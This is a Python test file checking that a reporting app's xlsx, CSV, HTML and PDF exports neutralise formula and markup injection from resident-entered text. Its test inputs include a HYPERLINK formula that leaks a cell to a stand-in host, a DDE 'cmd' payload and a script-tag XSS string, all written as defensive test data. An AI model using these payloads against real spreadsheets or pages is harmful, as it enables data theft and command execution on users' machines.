"""Text from outside never becomes a formula (xlsx, CSV) or markup (HTML, PDF charts) in exports."""

from __future__ import annotations

import csv
import io
import re
import tomllib
import zipfile
from datetime import UTC, datetime

import openpyxl
import pytest

from geo import db
from geo.auth.audit import AuditEntry, to_csv
from geo.cells import csv_cell, is_formula_like
from geo.drill.step import drill_step
from geo.ingest.rejects import Reject, write_rejects
from geo.reports.content import gather
from geo.reports.excel import workbook_bytes
from geo.reports.pdf import pdf_bytes, report_html
from tests.drill_fixtures import load_city
from tests.support import ROOT

NOW = datetime(2026, 11, 24, 6, tzinfo=UTC)
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2, "点此查看")'
# every way a spreadsheet may start a formula, each one as a resident could type it
ATTACKS = [
    HYPERLINK, "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", " =1+1",
    "=cmd|' /C calc'!A0", "＝1+1",
]  # fmt: skip


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_like_text_is_recognised_and_made_inert_in_csv(text):
    assert is_formula_like(text)
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-103.8", "+5", "1e3", "兰州市城关区", "", "a=b", 7, -3.5])
def test_numbers_and_plain_text_are_left_as_they_are(value):
    assert csv_cell(value) == value


def _formulas(xlsx: bytes) -> list[str]:
    """Every <f> (formula) element in the workbook's sheets."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as book:
        return [
            found
            for name in book.namelist()
            if name.startswith("xl/worksheets/")
            for found in re.findall(r"<f[ >].*?</f>|<f/>", book.read(name).decode())
        ]


@pytest.fixture(scope="module")
def hostile_report(scratch):
    """D1's October report after residents and a boundary file put formulas and markup in."""
    url = scratch.create_migrated()
    conn = db.connect(url)
    try:
        load_city(conn)
        with conn.cursor() as cur:
            # cases 3 and 8 are D1's overdue cases of October (drill_fixtures)
            cur.execute("UPDATE incidents SET address = %s, description = '=1+1' WHERE id = 3",
                        (HYPERLINK,))  # fmt: skip
            cur.execute("UPDATE incidents SET address = %s, description = %s WHERE id = 8",
                        ("@SUM(1+1)", "\t-2+3<script>alert(1)</script>"))  # fmt: skip
            cur.execute("UPDATE areas SET name = %s WHERE code = 'S1'", ("+1+1$\\foo{$",))
            cur.execute("UPDATE areas SET name = %s WHERE code = 'S2'", ("\r=2+2<b>西</b>",))
        conn.commit()
        content = gather(conn, drill_step(conn, "D1", "2026-10", NOW))
    finally:
        conn.close()
    return content, workbook_bytes(content), report_html(content, made_at=NOW)


@pytest.mark.db
def test_the_workbook_holds_no_formula_and_keeps_the_text_exactly(hostile_report):
    _content, xlsx, _html = hostile_report
    assert _formulas(xlsx) == []
    book = openpyxl.load_workbook(io.BytesIO(xlsx))
    overdue = {row[0]: row for row in book["超期案件"].iter_rows(min_row=2, values_only=True)}
    assert overdue[3][10:] == (HYPERLINK, "=1+1")
    assert overdue[8][10:] == ("@SUM(1+1)", "\t-2+3<script>alert(1)</script>")
    names = {row[2]: row[1] for row in book["下级排名"].iter_rows(min_row=2, values_only=True)}
    assert names == {"S1": "+1+1$\\foo{$", "S2": "\n=2+2<b>西</b>"}  # XML reads CR as LF
    assert all(
        cell.quotePrefix
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and is_formula_like(cell.value)
    )
    # numbers stay numbers: the overview's figures and the ranking's counts
    ranking = list(book["下级排名"].iter_rows(min_row=2, values_only=True))
    assert all(isinstance(row[6], int) for row in ranking)


@pytest.mark.db
def test_the_html_escapes_and_the_pdf_draws_names_with_markup(hostile_report):
    _content, _xlsx, page = hostile_report
    assert "<script>" not in page and "<b>西</b>" not in page
    assert "&lt;b&gt;西&lt;/b&gt;" in page
    assert pdf_bytes(page).startswith(b"%PDF")  # `$\foo{$` is a name, not matplotlib math


def test_the_audit_csv_and_the_rejects_csv_keep_formulas_as_text(tmp_path):
    entry = AuditEntry(1, NOW, "=actor", "login", "+target", {"k": "v"}, "@client")
    rows = list(csv.reader(io.StringIO(to_csv([entry]).decode("utf-8-sig"))))
    assert rows[1][2:] == ["'=actor", "login", "'+target", '{"k": "v"}', "'@client"]
    path = tmp_path / "rejects.csv"
    values = {"地址": HYPERLINK, "内容": "\r=1+1", "经度": "-103.8"}
    write_rejects(path, [Reject(2, "bad_date", "-1+1", values)], list(values))
    with path.open(encoding="utf-8-sig", newline="") as f:
        listed = list(csv.reader(f))
    assert listed[1] == ["2", "bad_date", "时间无法识别：-1+1", "'" + HYPERLINK, "'\r=1+1",
                         "-103.8"]  # fmt: skip


def test_the_pages_tables_offer_no_csv_download_of_their_own():
    """Streamlit's table download writes cells as they are (`=…` stays a formula): it is off."""
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True
